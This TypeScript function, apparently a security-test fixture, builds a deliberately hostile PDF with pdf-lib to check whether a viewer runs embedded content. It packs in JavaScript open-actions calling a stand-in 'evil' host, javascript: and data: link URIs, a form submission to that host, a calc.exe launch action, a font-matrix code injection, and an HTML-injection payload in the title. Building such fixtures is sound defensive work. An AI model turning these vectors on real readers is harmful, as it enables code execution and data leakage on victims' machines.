import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";

/** A PDF that would run scripts, open addresses and send forms, with the text "Hostile PDF". */
export async function poisonPdf(evil: string): Promise<Uint8Array> {
  const run = "window.poisonRan=1";
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([300, 200]);
  page.drawText("Hostile PDF", { x: 20, y: 150, size: 16, font });
  const script = {
    Type: "Action",
    S: "JavaScript",
    JS: PDFString.of(`app.launchURL("${evil}/pdf-js"); ${run}`),
  };
  pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj(script));
  pdf.catalog.set(PDFName.of("AA"), pdf.context.obj({ WC: script, DS: script }));
  pdf.catalog.set(
    PDFName.of("Names"),
    pdf.context.obj({ JavaScript: { Names: [PDFString.of("a"), script] } }),
  );
  const linkTo = (uri: string) => ({
    Type: "Annot",
    Subtype: "Link",
    Rect: [0, 0, 300, 200],
    A: { Type: "Action", S: "URI", URI: PDFString.of(uri) },
  });
  page.node.set(
    PDFName.of("Annots"),
    pdf.context.obj([
      linkTo(`javascript:${run}`),
      linkTo(`data:text/html,<script>${run}</script>`),
      {
        Type: "Annot",
        Subtype: "Link",
        Rect: [0, 0, 9, 9],
        A: { S: "SubmitForm", F: PDFString.of(`${evil}/pdf-form`) },
      },
      {
        Type: "Annot",
        Subtype: "Link",
        Rect: [0, 0, 9, 9],
        A: { S: "Launch", F: PDFString.of("calc.exe") },
      },
    ]),
  );
  // Some interpreters compile the matrix of a font into a function.
  const glyphs = pdf.context.register(
    pdf.context.obj({
      Type: "Font",
      Subtype: "Type1",
      BaseFont: "Evil",
      FontMatrix: [1, 0, 0, 1, 0, PDFString.of(`0); ${run}; (0`)],
    }),
  );
  page.node.setFontDictionary(PDFName.of("Evil"), glyphs as never);
  pdf.setTitle(`"><img src=x onerror=${run}>`);
  return pdf.save();
}
